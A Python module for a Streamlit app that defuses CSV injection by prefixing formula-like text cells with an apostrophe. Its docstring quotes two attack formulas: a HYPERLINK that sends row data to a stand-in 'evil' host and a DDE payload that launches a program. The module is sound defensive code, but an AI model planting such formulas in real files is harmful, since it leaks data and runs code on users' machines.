"""Every CSV the app writes goes through `csv_bytes`, which defuses formula-like cells (CSV injection).

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as
a formula: `=HYPERLINK("http://evil/?"&A1, "click")` sends a row away, `+cmd|' /C calc'!A0` ran programs
in old Excel. Sentences, labels, terms and file names come from users' files, so every text cell (and
column name) that starts with one of those characters is written with a leading apostrophe, as the OWASP
CSV injection guidance says; numbers, and text that is just a number (`-1`), are written as they are.
The tables on the page still show the text exactly as read: only the download is defused.
"""

from __future__ import annotations

import re
from functools import partial

import pandas as pd
import streamlit as st

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def csv_cell(value: object) -> object:
    """A cell as a CSV download writes it: text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of a table with every text cell and column name passed through `csv_cell`."""
    out = df.copy()
    out.columns = [csv_cell(c) if isinstance(c, str) else c for c in out.columns]
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(csv_cell)
    return out


def csv_bytes(df: pd.DataFrame) -> bytes:
    """A table as UTF-8 CSV, without the index, formula-like cells defused (`csv_cell`)."""
    return csv_safe(df).to_csv(index=False).encode("utf-8")


def download(df: pd.DataFrame, name: str, key: str, label: str = "Download CSV") -> None:
    """A CSV download button for a table; the CSV is written when the button is clicked, not on every rerun."""
    st.download_button(
        label,  # markup: checked at the call sites (tests/app/test_markup.py)
        partial(csv_bytes, df),  # deferred: writing every table's CSV cost up to 80 ms per rerun (Evaluation)
        file_name=f"{name}.csv",
        mime="text/csv",
        key=key,
    )
